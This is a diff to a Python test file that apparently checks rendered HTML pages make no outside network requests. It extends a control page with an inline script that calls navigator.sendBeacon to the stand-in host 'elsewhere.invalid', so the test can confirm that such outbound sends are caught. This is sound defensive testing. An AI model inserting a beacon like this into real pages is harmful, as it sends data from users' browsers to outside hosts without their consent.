@@ -39,7 +39,7 @@ return {
 """
 # A page that loads, runs and overflows, as a check of the measures
 CONTROL = b"""<!doctype html><img src="http://elsewhere.invalid/control.png" onerror="1"><p style="width: 900px">wide
-<script>document.title = 'taken'</script>"""
+<script>document.title = 'taken'; navigator.sendBeacon('http://elsewhere.invalid/sent', '{}')</script>"""
 PICTURES = {'Test': (1500, 400, 'RGB'), 'Latents': (300, 200, 'P'), HOSTILE: (64, 64, 'RGBA')}
 
 
@@ -92,8 +92,9 @@ def of_ours(found):
 def test_nothing_is_loaded(seen):
     found = seen.found
     # the control shows that a request would be noticed
-    assert found['control.html', 480]['own'] == ['http://elsewhere.invalid/control.png']
-    assert {each for each in seen.elsewhere if 'elsewhere' in each} == {'http://elsewhere.invalid/control.png'}
+    requests = {'http://elsewhere.invalid/control.png', 'http://elsewhere.invalid/sent'}
+    assert set(found['control.html', 480]['own']) == requests
+    assert {each for each in seen.elsewhere if 'elsewhere' in each} == requests
     loaded = {where: [each for each in page['own'] if not each.startswith('data:')] for where, page in found.items()}
     assert [where for where, names in loaded.items() if names] == [('control.html', 1280), ('control.html', 480)]
     assert all(set(page['sources']) <= {'data:'} for page in of_ours(found).values())
